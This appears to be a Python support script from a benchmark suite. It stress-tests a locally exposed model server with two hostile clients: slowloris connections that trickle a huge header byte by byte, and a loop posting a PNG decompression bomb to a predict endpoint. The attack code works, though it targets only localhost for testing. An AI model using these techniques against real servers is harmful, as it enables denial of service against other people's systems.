"""Hostile clients for bench/serve_exposed.py, in a process of their own: slowloris sockets that trickle
a request header a byte at a time (re-opening whenever the server cuts one), and a loop that posts an
image bomb (a small PNG declaring a huge size) to a `serving_bytes` signature. Prints what the server
answered as one JSON line when `seconds` have passed.

    python bench/_support/attackers.py PORT MODEL SECONDS [--sockets 300]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import collections
import http.client
import json
import struct
import threading
import time
import zlib


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A 1-bit greyscale PNG of zeros: ~50 KB on the wire, width x height pixels (x3 as RGB) decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


async def trickle(port: int, deadline: float, counts: collections.Counter) -> None:
    head = b"GET /v1/models/x HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"s" * 100_000
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            counts["connect failed"] += 1
            await asyncio.sleep(1)
            continue
        counts["opened"] += 1
        reply = asyncio.ensure_future(reader.read(200))  # whatever the server answers, whenever it does
        try:
            for byte in head:
                if reply.done() or time.monotonic() > deadline:
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
            answer = await asyncio.wait_for(reply, 2)
            counts[answer.split(b"\r\n", 1)[0].decode(errors="replace") or "closed without an answer"] += 1
        except (TimeoutError, OSError):
            counts["still open at the end" if time.monotonic() > deadline else "reset"] += 1
        finally:
            reply.cancel()
            writer.close()


def bombs(port: int, model: str, deadline: float, counts: collections.Counter) -> None:
    body = json.dumps(
        {"signature_name": "serving_bytes", "instances": [{"b64": base64.b64encode(png_bomb()).decode()}]}
    ).encode()
    counts["bomb bytes"] = len(body)
    while time.monotonic() < deadline:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        try:
            connection.request(
                "POST", f"/v1/models/{model}:predict", body, {"Content-Type": "application/json"}
            )
            counts[f"bomb answered {connection.getresponse().status}"] += 1
        except OSError as error:
            counts[f"bomb failed: {type(error).__name__}"] += 1
        finally:
            connection.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("model")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--sockets", type=int, default=300)
    args = parser.parse_args()
    deadline, counts = time.monotonic() + args.seconds, collections.Counter()
    bomber = threading.Thread(target=bombs, args=(args.port, args.model, deadline, counts), daemon=True)
    bomber.start()

    async def flood():
        await asyncio.gather(*(trickle(args.port, deadline, counts) for _ in range(args.sockets)))

    asyncio.run(flood())
    bomber.join(timeout=60)
    print(json.dumps(dict(counts)), flush=True)


if __name__ == "__main__":
    main()
